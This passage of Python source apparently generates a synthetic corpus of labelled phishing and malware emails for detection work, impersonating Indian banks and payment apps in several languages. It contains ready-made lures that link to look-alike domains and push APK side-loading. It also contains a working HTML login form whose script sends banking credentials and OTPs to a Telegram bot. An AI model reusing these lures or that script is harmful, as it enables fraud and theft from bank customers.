    helo = "APC01-SG2-obe.outbound.protection.outlook.com"
    hops = [f"Received: from {host} ([fe80::{hx(tag + 'f1', 4)}:{hx(tag + 'f2', 4)}:{hx(tag + 'f3', 4)}:{hx(tag + 'f4', 4)}]) by {host}\n"
            f" ([fe80::{hx(tag + 'f1', 4)}:{hx(tag + 'f2', 4)}:{hx(tag + 'f3', 4)}:{hx(tag + 'f4', 4)}%5]) with mapi id\n"
            f" 15.20.{8000 + int(digits(tag + 'ov', 3))}.{digits(tag + 'ow', 3)}; {{U}}"]
    msgid = f"<{box}{upper(tag + 'om', 12)}{digits(tag + 'on2', 4)}@{host.upper()}>"
    return hops, ip, rdns, helo, msgid


def outlook_extra(tag: str) -> str:
    return (f"Thread-Topic: {{TOPIC}}\nThread-Index: AQH{b64(tag + 'ti', 26)}\n"
            "X-MS-Has-Attach: {ATT}\nX-MS-TNEF-Correlator:\n"
            f"x-ms-exchange-messagesentrepresentingtype: 1\nx-tmn: [{b64(tag + 'tmn', 32)}]\n"
            f"x-ms-publictraffictype: Email\nx-ms-traffictypediagnostic: SEZPR06MB{digits(tag + 'ob', 4)}:EE_|TYZPR06MB{digits(tag + 'tz', 4)}:EE_")


def sendgrid_hops(tag: str, helo_host: str) -> list[str]:
    return [f"Received: by filterdrecv-{hx(tag + 'sg', 10)}-{an(tag + 'sg2', 5)} with SMTP id "
            f"filterdrecv-{hx(tag + 'sg', 10)}-{an(tag + 'sg2', 5)}-1-{upper(tag + 'sg3', 8)}-{digits(tag + 'sg4', 2)}\n"
            f"        {{U}}",
            f"Received: from {helo_host} (unknown)\n\tby geopod-ismtpd-{digits(tag + 'gp', 2)} (SG) with HTTP\n\tid "
            f"{b64(tag + 'sgid', 22).replace('+', '-').replace('/', '_')}\n\t{{U}}"]


def ses_conn(tag: str) -> tuple[str, str, str]:
    a, b = 7 + int(digits(tag + "s1", 1)) % 3, 10 + int(digits(tag + "s2", 2)) % 80
    rd = f"e{225 + a}-{b}.smtp-out.ap-south-1.amazonses.com"
    return f"69.169.{225 + a}.{b}", rd, rd


def ses_msgid(tag: str) -> str:
    return (f"<0109{hx(tag + 'se1', 12)}-{hx(tag + 'se2', 8)}-{hx(tag + 'se3', 4)}-{hx(tag + 'se4', 4)}-{hx(tag + 'se5', 4)}-"
            f"{hx(tag + 'se6', 12)}-000000@ap-south-1.amazonses.com>")


def ses_feedback(tag: str) -> str:
    return f"Feedback-ID: ::1.ap-south-1.{b64(tag + 'fb', 43).replace('/', '').replace('+', '')}=:AmazonSES\nX-SES-Outgoing: 2025.{digits(tag+'so', 2)}.{digits(tag+'so2', 2)}-69.169.226.{digits(tag+'so3', 2)}"


def ses_sig(tag: str, when: str) -> str:
    return dkim_header("amazonses.com", "ekvbgu5tzjbtbgefhnjv5kulmqgzbjq7", tag + "ses", parsedate_to_datetime(when),
                       h="Subject:From:To:Date:MIME-Version:Content-Type:Message-ID:Feedback-ID")


def phpmailer_head(from_: str, to: str, subject: str, date: str, domain: str, tag: str, reply_to: str = "",
                   version: str = "6.9.1") -> str:
    lines = [f"Date: {date}", f"To: {to}", f"From: {from_}"]
    if reply_to:
        lines.append(f"Reply-To: {reply_to}")
    lines += [f"Subject: {subject}", f"Message-ID: <{b64(tag + 'pm', 42).replace('/', '').replace('+', '')}@{domain}>",
              f"X-Mailer: PHPMailer {version} (https://github.com/PHPMailer/PHPMailer)", "MIME-Version: 1.0"]
    return "\n".join(lines)


def phpmailer_boundary(tag: str) -> str:
    return "b1=_" + b64(tag + "pb", 42).replace("/", "").replace("+", "")


def exim_hop(helo: str, client_ip: str, host: str, mailfrom: str, rcpt: str, tag: str, auth: bool = True) -> str:
    return (f"Received: from [{client_ip}] (port={40000 + int(digits(tag + 'ep', 4)) % 20000} helo={helo})\n"
            f"\tby {host} with {'esmtpsa' if auth else 'esmtps'}  (TLS1.2) tls TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384\n"
            f"\t(Exim 4.96.2)\n\t(envelope-from <{mailfrom}>)\n\tid 1{an(tag + 'ex', 5, B62)}-{an(tag + 'ex2', 6, B62)}-{an(tag + 'ex3', 2, B62)}\n"
            f"\tfor {rcpt};\n\t{{T}}")


def postfix_sub_hop(host: str, tag: str, rcpt: str, client: str = "localhost (localhost [127.0.0.1])") -> str:
    return (f"Received: from {client}\n\tby {host} (Postfix) with ESMTPSA id {upper(tag + 'ps', 11)}\n"
            f"\tfor <{rcpt}>; {{T}}")


def unsub(url: str, mailto: str = "") -> str:
    val = f"<{url}>" + (f", <mailto:{mailto}>" if mailto else "")
    return f"List-Unsubscribe: {val}\nList-Unsubscribe-Post: List-Unsubscribe=One-Click"


def mixed(boundary: str, parts: list) -> Multi:
    return Multi("mixed", boundary, parts)


def related(boundary: str, parts: list) -> Multi:
    return Multi("related", boundary, parts, ' type="multipart/alternative";')


# people
RAJESH = ("Rajesh Kumar Sharma", "rajesh.k.sharma84@gmail.com")
PRIYA = ("Priya Venkatesan", "priya.venkat1991@gmail.com")
SREENIVAS = ("Sreenivas Reddy K", "sreenivas.reddy.k@outlook.com")
ANANYA = ("Ananya Bose", "ananya.bose.kol@gmail.com")
SACHIN = ("Sachin Patil", "sachin.patil2207@rediffmail.com")
AMIT = ("Amit Verma", "amit.verma.lko@gmail.com")
MEENAKSHI = ("Meenakshi Iyer", "meenakshi.iyer@outlook.com")
KARTHIK = ("Karthik Subramanian", "karthik.subramanian@navyuginfotech.com")
NEHA = ("Neha Gupta", "neha.gupta@navyuginfotech.com")
FINAP = ("Finance - Accounts Payable", "finance.ap@navyuginfotech.com")
SGT = ("Accounts - Shree Ganesh Traders", "accounts@shreeganeshtraders.in")
SGT_HOST = "mail.shreeganeshtraders.in"
KAVERI = ("Kaveri Agro Foods", "info@kaveriagrofoods.in")
NIKHIL = ("CA Nikhil Patil", "nikhil@patilassociates.co.in")


def fmt(person: tuple[str, str]) -> str:
    return addr(person[0], person[1])


# ================================================================ attacks

@entry("b41-phish-sbi-yono-kyc", "phishing",
       "Hindi/English SBI YONO 'PAN not updated, account blocked tonight' lure sent through a school's compromised cPanel "
       "mailbox (PHPMailer), linking to a look-alike KYC login domain.")
def sbi_yono_kyc() -> bytes:
    tag = "sbi1"
    date = "Tue, 14 Jan 2025 10:42:17 +0530"
    link = f"https://yono-sbi.kyc-panupdate.in/yono/login.php?ref={an(tag, 10)}"
    html = html_page(f"""<table width="100%" cellpadding="0" cellspacing="0" style="font-family:Arial,sans-serif;background:#f2f2f2">
<tr><td align="center"><table width="600" cellpadding="18" style="background:#ffffff;border-top:5px solid #280071">
<tr><td><img src="https://yono-sbi.kyc-panupdate.in/assets/sbi-logo.png" width="140" alt="SBI"></td></tr>
<tr><td style="font-size:15px;color:#222">
<p>प्रिय ग्राहक,</p>
<p>आपका <b>YONO SBI</b> खाता आज रात 12 बजे से <b style="color:#c00">निलंबित</b> कर दिया जाएगा क्योंकि आपका PAN कार्ड
आपके खाते से अपडेट नहीं है। कृपया तुरंत नीचे दिए गए लिंक पर क्लिक करके अपना PAN अपडेट करें।</p>
<p>Dear Customer, your YONO SBI account will be suspended today because your PAN card is not updated.
Please update your PAN immediately to continue using net banking and UPI.</p>
<p style="text-align:center"><a href="{link}" style="background:#280071;color:#fff;padding:12px 28px;text-decoration:none;border-radius:4px">
PAN अपडेट करें / Update PAN Now</a></p>
<p style="font-size:12px;color:#666">State Bank of India | YONO Customer Care 1800 11 2211<br>
यह एक स्वचालित संदेश है, कृपया उत्तर न दें।</p>
</td></tr></table></td></tr></table>""", "SBI")
    plain = strip_tags(html) + f"\n{link}\n"
    head = phpmailer_head(addr("SBI YONO", "info@ashokaschoolbhopal.org"), fmt(RAJESH),
                          enc("सूचना: आपका YONO SBI खाता आज बंद हो जाएगा - PAN Update Pending"), date,
                          "ashokaschoolbhopal.org", tag)
    body = alt(phpmailer_boundary(tag), plain, html, "base64")
    hops = [exim_hop("ashokaschoolbhopal.org", "185.234.216.61", "md-in-79.webhostbox.net", "info@ashokaschoolbhopal.org",
                     RAJESH[1], tag)]
    return assemble(provider="gmail", rcpt=RAJESH[1], mailfrom="info@ashokaschoolbhopal.org", ip="103.50.163.121",
                    rdns="md-in-79.webhostbox.net", helo="md-in-79.webhostbox.net", spf="pass", dmarc="absent",
                    dkim=[("pass", "ashokaschoolbhopal.org", "default")], head=head, body=body, hops=hops,
                    sign_h="Content-Type:MIME-Version:Message-ID:Subject:From:To:Date:Sender:Reply-To:Cc")


@entry("b41-phish-hdfc-reward-points", "phishing",
       "Hindi HDFC Bank credit-card reward points 'expiring today, redeem now' lure from a Hostinger-hosted look-alike "
       "domain, the button going through a bit.ly shortener to a card-harvesting page.")
def hdfc_rewards() -> bytes:
    tag = "hdfc1"
    date = "Sat, 22 Mar 2025 08:05:44 +0000"
    link = "https://bit.ly/HDFC-Rwd-7850"
    html = html_page(f"""<div style="max-width:620px;margin:auto;font-family:'Segoe UI',Arial,sans-serif;border:1px solid #ddd">
<div style="background:#004c8f;padding:14px;color:#fff;font-size:20px;font-weight:bold">HDFC BANK
<span style="font-size:12px;font-weight:normal">We understand your world</span></div>
<div style="padding:22px;font-size:15px;line-height:1.6">
<p>प्रिय कार्डधारक,</p>
<p>आपके HDFC Bank क्रेडिट कार्ड (XX{digits(tag, 4)}) पर <b>7,850 रिवॉर्ड पॉइंट्स</b> (मूल्य <b>&#8377;2,355</b>)
<b>आज रात 11:59 बजे</b> समाप्त हो रहे हैं।</p>
<p>इन्हें अभी अपने खाते में नकद के रूप में रिडीम करें। रिडीम करने के लिए अपने कार्ड का विवरण सत्यापित करें।</p>
<p style="text-align:center;margin:26px 0"><a href="{link}" style="background:#ed232a;color:#fff;padding:12px 30px;text-decoration:none;font-weight:bold">
अभी रिडीम करें</a></p>
<p style="font-size:12px;color:#777">यदि आप आज रिडीम नहीं करते हैं, तो पॉइंट्स स्थायी रूप से समाप्त हो जाएंगे।<br>
&copy; HDFC Bank Ltd. SmartBuy Rewards</p></div></div>""", "HDFC Bank")
    plain = strip_tags(html) + f"\n{link}\n"
    head = "\n".join([
        "MIME-Version: 1.0",
        f"Date: {date}",
        f"From: {addr('HDFC Bank Rewards', 'rewards@hdfc-smartbuypoints.com')}",
        f"To: {MEENAKSHI[1]}",
        f"Subject: {enc('आपके 7,850 रिवॉर्ड पॉइंट्स आज समाप्त हो रहे हैं – अभी रिडीम करें')}",
        f"Message-ID: <{hx(tag, 32)}@hdfc-smartbuypoints.com>",
    ])
    body = alt(f"=_{hx(tag + 'b', 32)}", plain, html, "base64")
    hops = [f"Received: from [185.213.82.44] (unknown [185.213.82.44])\n\t(Authenticated sender: rewards@hdfc-smartbuypoints.com)\n"
            f"\tby smtp.hostinger.com (Postfix) with ESMTPSA id 4Z{upper(tag + 'h', 9)}\n\tfor <{MEENAKSHI[1]}>; {{U}}"]
    return assemble(provider="outlook", rcpt=MEENAKSHI[1], mailfrom="rewards@hdfc-smartbuypoints.com", ip="145.14.159.203",
                    rdns="fr-int-smtpout19.hostinger.io", helo="fr-int-smtpout19.hostinger.io", spf="pass", dmarc="pass",
                    dkim=[("pass", "hdfc-smartbuypoints.com", "hostingermail1")], head=head, body=body, hops=hops)


@entry("b41-phish-icici-pan-block", "phishing",
       "ICICI Bank 'PAN verification pending, iMobile and net banking will be blocked' lure sent from a compromised "
       "fashion retailer's SendGrid account, with SendGrid click tracking hiding the phishing destination.")
def icici_pan() -> bytes:
    tag = "icici1"
    date = "Mon, 07 Apr 2025 06:13:02 +0000"
    rcpt = "suresh.yadav.pnp@gmail.com"
    track = f"https://u4817263.ct.sendgrid.net/ls/click?upn=u001.{b64(tag + 'upn', 120).replace('/', '-').replace('+', '_')}"
    html = html_page(f"""<center><table width="600" style="font-family:Arial;border:1px solid #e0e0e0" cellpadding="0" cellspacing="0">
<tr><td style="background:#f37021;padding:16px 20px;color:#fff;font-size:22px"><b>ICICI Bank</b></td></tr>
<tr><td style="padding:24px 20px;font-size:14px;color:#333;line-height:22px">
Dear Valued Customer,<br><br>
As per RBI guidelines, your <b>PAN verification is pending</b> for your ICICI Bank Savings Account ending with **{digits(tag, 4)}.<br><br>
Your iMobile Pay and Internet Banking access will be <b>temporarily blocked within 24 hours</b> if your PAN is not linked.<br><br>
Kindly complete the verification to avoid any interruption:<br><br>
<a href="{track}" style="display:inline-block;background:#053c6d;color:#ffffff;padding:11px 26px;text-decoration:none">Verify PAN Details</a><br><br>
Regards,<br>ICICI Bank Customer Service</td></tr>
<tr><td style="padding:12px 20px;font-size:11px;color:#999;background:#fafafa">This is a system generated mail. Please do not reply.
ICICI Bank Tower, Bandra Kurla Complex, Mumbai 400051</td></tr></table></center>
<img src="https://u4817263.ct.sendgrid.net/wf/open?upn=u001.{b64(tag + 'open', 60).replace('/', '-').replace('+', '_')}" alt="" width="1" height="1" border="0" style="height:1px!important;width:1px!important">""", "ICICI Bank")
    plain = strip_tags(html).replace("Verify PAN Details", f"Verify PAN Details ( {track} )")
    head = "\n".join([
        "Content-Type: multipart/alternative; boundary=PLACEHOLDER",
        f"Date: {date}",
        f"From: {addr('ICICI Bank Alerts', 'alerts@mail.trendzfashionhub.com')}",
        "Mime-Version: 1.0",
        f"Message-ID: <{b64(tag + 'mid', 22).replace('/', '_').replace('+', '-')}@geopod-ismtpd-{digits(tag + 'gp', 2)}>",
        f"Subject: Action Required: PAN Verification Pending - Account Will Be Blocked",
        "X-SG-EID: \n " + fold_b(b64(tag + "eid", 180), 70, 74, " "),
        "X-SG-ID: \n " + fold_b(b64(tag + "sgid2", 120), 70, 74, " "),
        f"To: {rcpt}",
        "X-Entity-ID: u001." + b64(tag + "ent", 22),
    ]).replace("Content-Type: multipart/alternative; boundary=PLACEHOLDER\n", "")
    body = alt(hx(tag + "bd", 64), plain, html, "quoted-printable")
    mailfrom = f"bounces+4817263-{hx(tag + 'bm', 4)}-{rcpt.replace('@', '=')}@em8341.trendzfashionhub.com"
    return assemble(provider="gmail", rcpt=rcpt, mailfrom=mailfrom, ip="149.72.154.232", rdns="o1.ptr4471.trendzfashionhub.com",
                    helo="o1.ptr4471.trendzfashionhub.com", spf="pass", dmarc="pass", policy_="none",
                    dkim=[("pass", "trendzfashionhub.com", "s1"), ("pass", "sendgrid.info", "smtpapi")], head=head, body=body,
                    hops=sendgrid_hops(tag, "trendzfashionhub.com"), from_domain="mail.trendzfashionhub.com",
                    sign_h="cc:content-type:from:subject:to;")


@entry("b41-phish-axis-html-form", "phishing",
       "Axis Bank 'internet banking suspended' mail spoofing axisbank.com from a VPS (SPF and DMARC fail) with an HTML "
       "attachment whose login and OTP form posts the credentials to a Telegram bot.")
def axis_html() -> bytes:
    tag = "axis1"
    date = "Thu, 15 May 2025 19:28:51 +0530"
    rcpt = "deepak.enterprises.nsk@outlook.com"
    bot = f"7{digits(tag, 9)}:AAF{b64(tag + 'bot', 32).replace('/', '_').replace('+', '-')}"
    page = html_page(f"""<div class="box"><img src="https://www.axisbank.com/assets/images/logo-white.png" alt="AXIS BANK" width="150">
<h2>Internet Banking Verification</h2>
<p>Your Axis Bank Internet Banking has been temporarily suspended due to incomplete KYC. Login to re-activate.</p>
<form id="f"><input name="cid" placeholder="Customer ID / Login ID" required>
<input name="pwd" type="password" placeholder="Password" required>
<input name="mob" placeholder="Registered Mobile Number" required>
<input name="dob" placeholder="Date of Birth (DD/MM/YYYY)" required>
<button type="submit">Login</button></form>
<div id="otp" style="display:none"><p>Enter the OTP sent to your registered mobile number</p>
<input id="o" maxlength="6" placeholder="OTP"><button onclick="s2()">Verify</button></div></div>
<script>
var t="{bot}",c="-100{digits(tag + 'chat', 10)}";
function snd(m){{fetch("https://api.telegram.org/bot"+t+"/sendMessage",{{method:"POST",headers:{{"Content-Type":"application/json"}},
body:JSON.stringify({{chat_id:c,text:m}})}});}}
document.getElementById("f").onsubmit=function(e){{e.preventDefault();var d=new FormData(this),m="AXIS\\n";
d.forEach(function(v,k){{m+=k+": "+v+"\\n";}});snd(m);this.style.display="none";document.getElementById("otp").style.display="block";}};
function s2(){{snd("AXIS OTP: "+document.getElementById("o").value);location.href="https://www.axisbank.com/";}}
</script>""", "Axis Bank - Login",
        "body{font-family:Arial;background:#97144d}.box{max-width:380px;margin:60px auto;background:#fff;padding:28px;border-radius:6px}"
        "input{display:block;width:100%;margin:8px 0;padding:10px}button{background:#97144d;color:#fff;border:0;padding:10px;width:100%}")
    html = html_page("""<div style="font-family:Arial;font-size:14px">
<p>Dear Customer,</p>
<p>Your Axis Bank Internet Banking access has been <b>temporarily suspended</b> as your KYC details are incomplete as per RBI norms.</p>
<p>To restore access please download and open the attached verification form and login with your Customer ID.</p>
<p>Failure to complete within 24 hours will result in permanent blocking of your account.</p>
<p>Regards,<br>Axis Bank Ltd.<br>Customer Service Team</p></div>""")
    head = "\n".join([
        f"From: {addr('Axis Bank', 'alerts@axisbank.com')}",
        f"To: {rcpt}",
        "Subject: Your Axis Bank Internet Banking is Suspended - Verify KYC",
        f"Date: {date}",
        f"Message-ID: <{hx(tag + 'm', 20)}@axisbank.com>",
        "X-Priority: 1 (Highest)",
        "MIME-Version: 1.0",
    ])
    body = mixed(f"----=_NextPart_{hx(tag + 'b1', 3)}_{hx(tag + 'b2', 4)}_{hx(tag + 'b3', 8)}.{hx(tag + 'b4', 8)}", [
        alt(f"----=_NextPart_{hx(tag + 'c1', 3)}_{hx(tag + 'c2', 4)}_{hx(tag + 'c3', 8)}.{hx(tag + 'c4', 8)}", strip_tags(html), html, "quoted-printable"),
        attachment("text/html", "Axis_KYC_Verification_Form.html", page.encode()),
    ])
    return assemble(provider="outlook", rcpt=rcpt, mailfrom="alerts@axisbank.com", ip="91.92.246.118",
                    rdns="vps-91-92-246-118.hostglobal.plus", helo="mail.kycsupport.online", spf="fail", dmarc="fail",
                    policy_="reject", dkim=[], head=head, body=body)


@entry("b41-phish-kotak-limit-telugu", "phishing",
       "Telugu Kotak Mahindra Bank 'you are eligible for a credit-card limit increase to Rs 3.5 lakh' lure from an "
       "attacker-registered look-alike domain that passes SPF/DKIM/DMARC, linking to a card-details form.")
def kotak_limit() -> bytes:
    tag = "kotak1"
    date = "Wed, 11 Jun 2025 11:20:09 +0530"
    link = f"https://kotak-creditcards.in/limit-upgrade/?cid={an(tag, 12)}"
    html = html_page(f"""<table width="600" align="center" cellpadding="0" cellspacing="0" style="font-family:'Noto Sans Telugu',Arial;border:1px solid #ccc">
<tr><td style="background:#ed1c24;padding:14px;color:#fff;font-size:20px"><b>kotak</b> Mahindra Bank</td></tr>
<tr><td style="padding:22px;font-size:15px;line-height:1.7;color:#222">
<p>ప్రియమైన వినియోగదారుడా,</p>
<p>అభినందనలు! మీ కోటక్ క్రెడిట్ కార్డ్ పరిమితిని <b>&#8377;3,50,000</b> వరకు పెంచడానికి మీరు ముందుగా ఆమోదించబడ్డారు.
ఈ ఆఫర్ ఈరోజు మాత్రమే చెల్లుతుంది.</p>
<p>పరిమితి పెంపును యాక్టివేట్ చేయడానికి మీ కార్డ్ వివరాలు మరియు OTP ని ధృవీకరించండి.</p>
<p style="text-align:center"><a href="{link}" style="background:#003874;color:#fff;padding:12px 26px;text-decoration:none">ఇప్పుడే యాక్టివేట్ చేయండి</a></p>
<p style="font-size:12px;color:#666">Kotak Mahindra Bank Ltd. | 27BKC, Bandra Kurla Complex, Mumbai</p>
</td></tr></table>""", "Kotak", "te")
    plain = strip_tags(html) + f"\n{link}\n"
    head = "\n".join([
        f"Date: {date}",
        f"From: {addr('Kotak Credit Cards', 'offers@kotak-creditcards.in')}",
        f"To: {addr(SREENIVAS[0], SREENIVAS[1])}",
        f"Subject: {enc('మీ క్రెడిట్ కార్డ్ పరిమితి ₹3,50,000 కు పెంపు - ఈరోజే యాక్టివేట్ చేయండి')}",
        f"Message-ID: <{hx(tag + 'm', 24)}@kotak-creditcards.in>",
        "MIME-Version: 1.0",
    ])
    body = alt(f"--==_mimepart_{hx(tag + 'b', 13)}_{digits(tag, 6)}", plain, html, "base64")
    hops = [postfix_sub_hop("mail.kotak-creditcards.in", tag, SREENIVAS[1])]
    return assemble(provider="outlook", rcpt=SREENIVAS[1], mailfrom="bounce@kotak-creditcards.in", ip="194.163.142.77",
                    rdns="vmi2261447.contaboserver.net", helo="mail.kotak-creditcards.in", spf="pass", dmarc="pass",
                    policy_="none", dkim=[("pass", "kotak-creditcards.in", "mail")], head=head, body=body, hops=hops)


@entry("b41-phish-pnb-kyc-apk-link", "phishing",
       "Hinglish PNB 'KYC expired, install the PNB ONE KYC update app' mail from a free Gmail account linking to an "
       "APK hosted on a Firebase site (Android banking trojan delivery by link).")
def pnb_apk() -> bytes:
    tag = "pnb1"
    date = "Fri, 18 Jul 2025 21:14:33 +0530"
    link = "https://pnbone-kyc-update.web.app/download/PNB_ONE_KYC_Update.apk"
    plain = ("Dear PNB Customer,\n\n"
             "Aapka PNB account ka KYC expire ho gaya hai. Aaj raat 12 baje ke baad aapka account aur debit card band kar diya jayega.\n\n"
             "KYC update karne ke liye niche diye gaye link se PNB ONE KYC Update app download karke install karein "
             "aur apni details bharein:\n\n"
             f"{link}\n\n"
             "Install karte waqt 'Unknown sources' allow karein. Ye RBI ka naya rule hai.\n\n"
             "Punjab National Bank\nKYC Department\n")
    html = gmail_html(["Dear PNB Customer,", "",
                       "Aapka PNB account ka KYC expire ho gaya hai. Aaj raat 12 baje ke baad aapka account aur debit card band kar diya jayega.", "",
                       "KYC update karne ke liye niche diye gaye link se <b>PNB ONE KYC Update</b> app download karke install karein aur apni details bharein:", "",
                       f'<a href="{link}">{link}</a>', "",
                       "Install karte waqt &#39;Unknown sources&#39; allow karein. Ye RBI ka naya rule hai.", "",
                       "Punjab National Bank", "KYC Department"])
    sender = "pnb.kyc.helpdesk2025@gmail.com"
    head = gmail_head(addr("PNB KYC Department", sender), AMIT[1], "PNB KYC Update - Account Block Hoga Aaj Raat", date, tag)
    ip, rdns, helo = gmail_conn(tag)
    body = alt(gmail_boundary(tag), plain, html, upper_cs=True)
    return assemble(provider="gmail", rcpt=AMIT[1], mailfrom=sender, ip=ip, rdns=rdns, helo=helo, spf="pass", dmarc="pass",
                    policy_="none", dkim=[("pass", "gmail.com", GMAIL_OUT)], head=head, body=body,
                    sign_h="to:subject:message-id:date:from:mime-version:from:to:cc:subject:date:message-id:reply-to")


@entry("b41-malware-bob-world-apk", "malware",
       "Bank of Baroda 'bob World app KYC update mandatory' mail from a college's compromised Zoho mailbox carrying a zip "
       "with an Android APK (banking trojan dropper) to side-load.")
def bob_apk() -> bytes:
    tag = "bob1"
    date = "Mon, 04 Aug 2025 09:51:26 +0530"
    sender = "office@svcollegeofpharmacy.edu.in"
    html = html_page("""<div style="font-family:Verdana,sans-serif;font-size:13px">
<p>Dear Bank of Baroda Customer,</p>
<p>As per the latest RBI directive, all customers must install the updated <b>bob World KYC</b> application before 05-08-2025.
Old version of bob World will stop working and your account will be frozen.</p>
<p>Please download the attached file, extract it and install <b>bob World KYC.apk</b> on your Android phone.
Login with your Customer ID and complete Aadhaar and PAN verification.</p>
<p>आपका खाता बंद होने से बचाने के लिए संलग्न ऐप तुरंत इंस्टॉल करें।</p>
<p>Thanks &amp; Regards<br>Bank of Baroda<br>Digital Banking Cell</p></div>""")
    bnd = f"----=_Part_{digits(tag, 7)}_{digits(tag + 'x', 9)}.{digits(tag + 'y', 13)}"
    head = "\n".join([
        f"Date: {date}",
        f"From: {addr('Bank of Baroda', sender)}",
        f"To: {SACHIN[1]}",
        f"Message-ID: <{digits(tag + 'mid', 13)}.{digits(tag + 'mid2', 5)}.{digits(tag + 'mid3', 19)}@svcollegeofpharmacy.edu.in>",
        "Subject: bob World KYC Update Mandatory - Install Before 05-08-2025",
        "MIME-Version: 1.0",
        "Importance: Medium",
        "User-Agent: Zoho Mail",
        "X-Mailer: Zoho Mail",
    ])
    zipped = files.zip_archive([("bob World KYC.apk", apk("com.bob.worldkyc.update", "bob World KYC"))])
    body = mixed(bnd, [alt(bnd.replace("Part_", "Part_A"), strip_tags(html), html, "quoted-printable", upper_cs=True),
                       attachment("application/zip", "bob_World_KYC_Update.zip", zipped)])
    hops = [f"Received: from mail.zoho.in by mx.zoho.in\n\twith SMTP id {digits(tag + 'z', 13)}{digits(tag + 'z2', 6)}.{digits(tag + 'z3', 5)}"
            f" (unknown ([106.76.{digits(tag + 'ip', 2)}.{digits(tag + 'ip2', 2)}]));\n\t{{T}}"]
    return assemble(provider="rediff", rcpt=SACHIN[1], mailfrom=sender, ip="136.143.169.51", rdns="sender4-op-o51.zoho.in",
                    helo="sender4-op-o51.zoho.in", spf="pass", dmarc="pass", policy_="none",
                    dkim=[("pass", "svcollegeofpharmacy.edu.in", "zmail")], head=head, body=body, hops=hops)


@entry("b41-phish-paytm-cashback", "phishing",
       "Hinglish 'Paytm cashback of Rs 2,000 credited, claim by entering UPI PIN' scam from a free Outlook.com mailbox, "
       "linking to a Vercel-hosted page that raises a UPI collect request.")
def paytm_cashback() -> bytes:
    tag = "paytm1"
    date = "Sun, 12 Oct 2025 13:07:45 +0000"
    hops, ip, rdns, helo, msgid = outlook_sender(tag)
    link = f"https://paytm-cashback-claim.vercel.app/claim?u={an(tag, 10)}&amt=2000"
    paras = ["Congratulations!! &#127881;", "",
             "Aapko <b>Paytm Diwali Cashback Offer</b> ke tahat <b>&#8377;2,000</b> ka cashback mila hai.",
             "Yeh cashback aapke Paytm wallet mein pending hai. Isse apne bank account mein transfer karne ke liye niche link pe click karein aur "
             "apna UPI PIN daal kar claim karein.", "",
             f'<a href="{link}">Claim &#8377;2,000 Cashback</a>', "",
             "Offer sirf aaj raat 12 baje tak valid hai.", "", "Team Paytm", "One97 Communications Ltd."]
    html = outlook_html(paras)
    plain = strip_tags("<br>".join(paras)).replace("Claim ₹2,000 Cashback", f"Claim ₹2,000 Cashback <{link}>")
    sender = "paytm.cashback.rewards@outlook.com"
    head = "\n".join([
        f"From: {addr('Paytm Cashback', sender)}",
        f"To: {AMIT[1]}",
        f"Subject: {enc('🎉 ₹2,000 Cashback Aapke Paytm Wallet Mein Pending Hai - Abhi Claim Karein')}",
        outlook_extra(tag).replace("{TOPIC}", enc("₹2,000 Cashback Aapke Paytm Wallet Mein Pending Hai")).replace("{ATT}", ""),
        f"Date: {date}",
        f"Message-ID: {msgid}",
        "Accept-Language: en-IN, en-US",
        "Content-Language: en-IN",
        "MIME-Version: 1.0",
    ]).replace("X-MS-Has-Attach: \n", "X-MS-Has-Attach:\n")
    body = alt(outlook_boundary(tag, "SEZPR06MB", "apcp"), plain, html, "base64")
    return assemble(provider="gmail", rcpt=AMIT[1], mailfrom=sender, ip=ip, rdns=rdns, helo=helo, spf="pass", dmarc="pass",
                    policy_="none", dkim=[("pass", "outlook.com", "selector1")], head=head, body=body, hops=hops,
                    sign_h="From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck")


@entry("b41-phish-phonepe-refund-bengali", "phishing",
       "Bengali PhonePe 'your refund of Rs 4,999 failed, verify to receive it' lure sent through Mailgun from a look-alike "
       "domain, with Mailgun click tracking in front of a UPI PIN harvesting page.")
def phonepe_refund() -> bytes:
    tag = "phonepe1"
    date = "Tue, 18 Nov 2025 07:33:10 +0000"
    track = f"http://email.phonepe-refunds.in/c/eJw{b64(tag + 'trk', 110).replace('/', '_').replace('+', '-')}"
    html = html_page(f"""<div style="max-width:560px;margin:auto;font-family:'Noto Sans Bengali',Arial;border-radius:8px;border:1px solid #e5e5e5">
<div style="background:#5f259f;color:#fff;padding:16px;font-size:20px;font-weight:bold">PhonePe</div>
<div style="padding:20px;font-size:15px;line-height:1.7">
<p>প্রিয় গ্রাহক,</p>
<p>আপনার <b>&#8377;4,999</b> টাকার রিফান্ড (লেনদেন আইডি: T{digits(tag, 20)}) ব্যাংকের সার্ভার ত্রুটির কারণে ব্যর্থ হয়েছে।</p>
<p>রিফান্ড পেতে অনুগ্রহ করে ২৪ ঘণ্টার মধ্যে আপনার UPI বিবরণ যাচাই করুন। যাচাই না করলে টাকা ফেরত দেওয়া সম্ভব হবে না।</p>
<p style="text-align:center"><a href="{track}" style="background:#5f259f;color:#fff;padding:12px 28px;border-radius:20px;text-decoration:none">রিফান্ড গ্রহণ করুন</a></p>
<p style="font-size:12px;color:#888">PhonePe Private Limited, Bengaluru. এটি একটি স্বয়ংক্রিয় ইমেল।</p>
</div></div>
<img width="1" height="1" alt="" src="http://email.phonepe-refunds.in/o/eJw{b64(tag + 'o', 80).replace('/', '_').replace('+', '-')}">""", "PhonePe", "bn")
    plain = strip_tags(html) + f"\n{track}\n"
    sender = "support@phonepe-refunds.in"
    head = "\n".join([
        "Mime-Version: 1.0",
        f"Subject: {enc('আপনার ₹4,999 রিফান্ড ব্যর্থ হয়েছে - এখনই যাচাই করুন')}",
        f"From: {addr('PhonePe Support', sender)}",
        f"To: {ANANYA[1]}",
        f"Date: {date}",
        f"Message-Id: <{parsedate_to_datetime(date):%Y%m%d%H%M%S}.{hx(tag + 'mg', 16)}@phonepe-refunds.in>",
        f"X-Mailgun-Sid: WyI{b64(tag + 'sid', 40)}",
        "Sender: " + sender,
    ])
    body = alt(hx(tag + "b", 32), plain, html, "base64")
    hops = [f"Received: by {hx(tag + 'mgh', 12)} with HTTP id {hx(tag + 'mgi', 24)}; {{U}}"]
    return assemble(provider="gmail", rcpt=ANANYA[1], mailfrom=f"bounce+{hx(tag + 'bn', 6)}.{hx(tag + 'bn2', 6)}-{ANANYA[1].replace('@', '=')}@phonepe-refunds.in",
                    ip="159.135.228.14", rdns="m228-14.mailgun.net", helo="m228-14.mailgun.net", spf="pass", dmarc="pass",
                    policy_="none", dkim=[("pass", "phonepe-refunds.in", "krs")], head=head, body=body, hops=hops,
